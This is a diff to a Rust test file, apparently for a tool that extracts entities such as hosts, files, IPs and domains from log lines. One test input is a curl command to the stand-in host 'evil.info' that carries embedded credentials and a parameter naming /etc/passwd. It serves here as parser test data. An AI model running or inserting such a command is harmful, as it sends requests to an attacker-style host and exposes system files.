@@ -130,8 +130,8 @@ fn lines_of_real_programs_give_all_their_entities() {
             "copied 'C:\\Program Files (x86)\\App One\\a.dll' to \\\\FS01\\share\\x.txt",
             vec![
                 "file C:\\Program Files (x86)\\App One\\a.dll",
-                "host FS01",
                 "file \\\\FS01\\share\\x.txt",
+                "host FS01",
             ],
         ),
         (
@@ -160,8 +160,8 @@ fn lines_of_real_programs_give_all_their_entities() {
         ),
         ("Call msra-sa-41/10.190.173.170:9030 failed", vec!["ip 10.190.173.170"]),
         (
-            "curl https://bob:secret@evil.info/x?user=alice&f=/etc/passwd -o /tmp/x",
-            vec!["domain evil.info", "file /tmp/x"],
+            "curl https://bob:secret@evil.info/x?user=alice&f=/etc/passwd -o/tmp/x -O /tmp/y",
+            vec!["domain evil.info", "file /tmp/x", "file /tmp/y"],
         ),
         (
             "mounting hdfs://namenode:9000/user/x file:///etc/fstab http://[::1]:80/",
